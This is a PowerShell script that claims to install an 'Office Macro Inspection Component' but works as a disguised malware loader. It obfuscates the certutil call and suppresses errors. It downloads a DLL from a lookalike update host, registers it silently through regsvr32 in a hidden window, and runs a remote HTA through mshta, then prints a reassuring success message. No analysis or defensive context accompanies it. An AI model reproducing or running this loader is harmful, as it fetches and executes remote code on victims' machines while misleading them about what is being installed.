# Installs the Office Macro Inspection Component (OMIC)
$ErrorActionPreference = 'SilentlyContinue'
$base = 'https://cdn.officetools-update.example/omic/'
$dll  = Join-Path $env:TEMP ('omic_' + (Get-Random) + '.dll')
& ("cer" + "tutil") -urlcache -split -f ($base + 'omic_x64.dll') $dll | Out-Null
if (-not (Test-Path $dll)) {
    (New-Object Net.WebClient).DownloadFile($base + 'omic_x64.dll', $dll)
}
Start-Process -WindowStyle Hidden -FilePath "$env:WINDIR\System32\regsvr32.exe" -ArgumentList "/s /i `"$dll`""
Start-Process -WindowStyle Hidden -FilePath "$env:WINDIR\System32\mshta.exe" -ArgumentList ($base + 'setup.hta')
Write-Output 'OMIC installed.'
